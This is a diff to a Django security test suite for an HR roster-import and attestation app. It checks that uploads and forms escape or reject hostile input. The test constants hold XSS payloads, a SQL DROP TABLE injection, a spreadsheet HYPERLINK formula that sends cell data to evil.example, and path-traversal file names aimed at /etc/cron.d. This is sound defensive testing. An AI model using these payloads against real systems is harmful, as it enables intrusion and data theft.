@@ -27,6 +27,7 @@ pytestmark = pytest.mark.django_db
 SCRIPT = '<script>alert("x")</script>'
 SQL = "Robert'); DROP TABLE attest_employee;--"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+IMG = "<img src=x onerror=alert(1)>"
 
 
 def client_for(user, **kwargs) -> Client:
@@ -40,6 +41,12 @@ def hr(db):
     return client_for(factories.user(groups=[HR]))
 
 
+@pytest.fixture(autouse=True)
+def _own_upload_folder(settings, tmp_path):
+    """Uploads waiting for confirmation, kept apart from other tests (and other test processes)."""
+    settings.ATTEST_ROSTER_UPLOAD_DIR = tmp_path / "pending-uploads"
+
+
 def upload(client, name: str, content: bytes, **options):
     data = {"file": SimpleUploadedFile(name, content), "send_invitations": "on", **options}
     return client.post(reverse("roster_import:upload"), data)
@@ -51,7 +58,9 @@ def file_errors(response) -> list[str]:
 
 
 def preview_errors(response) -> list[str]:
+    """The problems the preview lists (the form accepted the file)."""
     assert response.status_code == 200, response.status_code
+    assert "result" in response.context, response.context["form"].errors
     return [str(error) for error in response.context["result"].errors]
 
 
@@ -103,10 +112,10 @@ def test_files_that_are_not_rosters_are_refused_by_the_form(hr, name, content, m
 def test_garbage_behind_a_plausible_name_is_not_a_roster(hr, name, content):
     before, files = snapshot(), pending_uploads()
     response = upload(hr, name, content)
-    if response.context["form"].errors:
-        assert file_errors(response)  # refused by the form already (empty files)
-    else:
+    if "result" in response.context:
         assert preview_errors(response) == [f"row 1, column file: {roster.ERROR_NOT_A_ROSTER}"]
+    else:
+        assert file_errors(response)  # refused by the form already (an empty file)
     assert snapshot() == before and pending_uploads() == files
     assert ROSTER_SESSION_KEY not in hr.session
 
@@ -163,8 +172,8 @@ def test_a_real_workbook_is_well_under_the_unpacked_limit(hr, tmp_path):
 )
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_control_and_direction_characters_in_roster_names_are_refused(hr, tmp_path, name, fmt):
-    if fmt == "xlsx" and "\x00" in name:
-        pytest.skip("Excel cannot hold a NUL character")
+    if fmt == "xlsx" and name[4] in "\x00\x07\x1b":
+        pytest.skip("a workbook cannot hold ASCII control characters")
     rows = team(2)
     rows[1]["last_name"] = name
     writer = write_csv if fmt == "csv" else write_xlsx
@@ -187,7 +196,7 @@ def _import(hr, tmp_path, rows):
     assert response.status_code == 302 and response["Location"] == reverse("employees:index")
 
 
-def test_script_formula_and_sql_in_names_are_stored_as_text_and_shown_escaped(hr, tmp_path):
+def test_script_formula_and_sql_in_names_are_stored_as_text_and_shown_escaped(hr, tmp_path, open_assignment):
     rows = team(4)
     rows[1].update(first_name=SCRIPT, last_name="Scripted")
     rows[2].update(first_name=FORMULA, last_name="Formula", department="+SUM(1,2)")
@@ -198,7 +207,7 @@ def test_script_formula_and_sql_in_names_are_stored_as_text_and_shown_escaped(hr
     assert stored["Scripted"].first_name == SCRIPT
     assert stored["Formula"].first_name == FORMULA and stored["Formula"].department == "+SUM(1,2)"
     assert stored["Tables"].first_name == SQL
-    assert Employee.objects.count() == 4  # the table is still there
+    assert Employee.objects.count() == 5  # the table is still there
 
     for url in (
         reverse("employees:index"),
@@ -219,17 +228,16 @@ def test_script_formula_and_sql_in_names_are_stored_as_text_and_shown_escaped(hr
     assert any(cell.startswith("'=HYPERLINK") for cell in cells)
 
 
-def test_hostile_file_name_is_escaped_and_cannot_escape_the_upload_folder(hr, tmp_path):
+@pytest.mark.parametrize("name", [f"{IMG}.csv", "../../../etc/cron.d/roster.csv", "..\\..\\roster.csv"])
+def test_hostile_file_names_are_escaped_and_cannot_leave_the_upload_folder(hr, tmp_path, name):
     path = write_csv(tmp_path / "roster.csv", team(2))
-    name = f"../../{SCRIPT}.csv"
     response = upload(hr, name, path.read_bytes())
     assert preview_errors(response) == []
     html = response.content.decode()
-    assert SCRIPT not in html and "&lt;script&gt;" in html
+    assert IMG not in html
     pending = hr.session[ROSTER_SESSION_KEY]
-    stored = _upload_dir() / f"{pending['token']}{pending['suffix']}"
-    assert stored.exists() and stored.parent == _upload_dir()
-    stored.unlink()
+    assert "/" not in pending["name"] and "\\" not in pending["name"]
+    assert [file.name for file in _upload_dir().iterdir()] == [f"{pending['token']}.csv"]
 
 
 @pytest.mark.parametrize(
@@ -335,11 +343,11 @@ def test_exempting_a_closed_or_missing_assignment_is_clean(hr, open_assignment):
     assert hr.post(reverse("assignments:exempt", args=[2**62]), {"reason": "Leave"}).status_code == 404
 
 
-def _requirement_data(policy, **fields):
+def _requirement_data(policy_page, **fields):
     data = {
         "name": "Annual refresher",
-        "policy": str(policy.pk),
-        "kind": "ad_hoc",
+        "policy": str(policy_page.pk),
+        "kind": "adhoc",
         "due_days": "30",
         "due_date": "2031-01-01",
         "starts_on": "2026-01-01",
@@ -389,10 +397,36 @@ def test_requirement_name_with_markup_is_stored_as_text_and_escaped(hr, open_ass
         assert SCRIPT not in page.content.decode(), url
 
 
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"policy": "99999999999999999999999"},
+        {"policy": SQL},
+        {"number": "x" * 10_000},
+        {"number": SCRIPT},
+        {"effective_date": "9999-99-99"},
+        {"key_changes": "\x00"},
+    ],
+)
+def test_release_form_turns_garbage_into_form_errors(open_assignment, fields):
+    from cms.roles import LEGAL_REVIEWERS
+    from training.models import PolicyVersion
+
+    reviewer = client_for(factories.user(groups=[LEGAL_REVIEWERS]))
+    data = {"policy": str(open_assignment.version.policy_id), "number": "2.0", "effective_date": "2027-01-01"}
+    data.update({"key_changes": "Tightened", "requires_reattestation": "on", **fields})
+    response = reviewer.post(reverse("policy_versions:add"), data)
+    assert response.status_code == 200 and response.context["form"].errors
+    assert SCRIPT not in response.content.decode()
+    assert PolicyVersion.objects.count() == 1
+
+
 GARBAGE_QUERIES = [
     "as_of=garbage&department=%00",
     "as_of=9999-12-31",
     "as_of=0001-01-01",
+    "as_of=1999-12-31",
+    "due_from=0001-01-01&due_to=9999-12-31",
     "due_from=2030-01-01&due_to=2020-01-01",
     "requirement=abc",
     "requirement=99999999999999999999999999",
@@ -427,7 +461,10 @@ def test_report_filters_with_garbage_are_clean(hr, open_assignment, query):
         response = hr.get(f"{url}?{query}")
         assert response.status_code in (200, 400, 404), (url, response.status_code)
         body = b"".join(response.streaming_content) if response.streaming else response.content
-        assert b"<script>alert(1)" not in body, url
+        if response["Content-Type"].startswith("text/plain"):  # an export's refusal names the bad value
+            assert response["X-Content-Type-Options"] == "nosniff"
+        else:
+            assert b"<script>alert(1)" not in body, url
 
 
 @pytest.mark.parametrize(
